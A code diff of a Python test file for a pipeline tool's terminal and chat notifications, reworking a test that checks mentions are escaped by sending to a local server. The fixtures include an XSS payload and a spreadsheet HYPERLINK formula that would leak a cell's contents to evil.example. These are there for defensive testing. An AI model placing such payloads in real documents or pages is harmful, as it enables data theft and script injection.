@@ -11,10 +11,11 @@ from modeling.core.report import Report
 from modeling.reports import drawing
 from pipelines.cli.progress import LiveProgress
 from pipelines.runs import Launch
-from resources import notification
-from resources.notification import Notice, notify
+from resources.notification.notice import Notice
+from resources.notification.places import PLACES
 
 from ..pipelines.sandbox import KEY, Sandbox, orders
+from ..resources.notification.servers import Hook, serving
 
 SCRIPT = "<img src=x onerror='alert(1)'><script>alert(2)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -93,7 +94,7 @@ def _markdown(instance: DagsterInstance, asset: str) -> list[str]:
 
 def test_a_message_on_the_terminal_acts_on_nothing(capsys: pytest.CaptureFixture[str]):
     console = Console(width=200)
-    with LiveProgress(console) as progress:
+    with LiveProgress(console, str) as progress:
         launch = Launch("use_case", KEY)
         progress.begin(launch, KEY, 1)
         progress.end(launch, f"failed {ESCAPE}")
@@ -103,19 +104,13 @@ def test_a_message_on_the_terminal_acts_on_nothing(capsys: pytest.CaptureFixture
 
 
 def test_a_notice_calls_nobody_in_a_chat(monkeypatch: pytest.MonkeyPatch):
-    sent: list[dict[str, str]] = []
-
-    class Taken:
-        def raise_for_status(self) -> None:
-            pass
-
-    def post(_: str, json: dict[str, str], timeout: int) -> Taken:
-        sent.append(json)
-        return Taken()
-
-    monkeypatch.setattr(notification.requests, "post", post)
-    notify(Notice("retail/returns failed", "column <!channel> & <@U1>"), print, {notification.WEBHOOK: "http://x"})
-    assert sent == [{"text": "retail/returns failed\ncolumn &lt;!channel&gt; &amp; &lt;@U1&gt;"}]
+    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
+    monkeypatch.setattr(Hook, "taken", [], raising=False)
+    (webhook, _) = PLACES
+    with serving(Hook) as port:
+        notice = Notice("retail/returns failed", "column <!channel> & <@U1>")
+        webhook.take(notice, {webhook.variable: f"http://127.0.0.1:{port}"})
+    assert Hook.taken[0].startswith("warning: retail/returns failed\ncolumn &lt;!channel&gt; &amp; &lt;@U1&gt;\n")
 
 
 def test_a_control_character_does_not_end_the_process_that_draws():
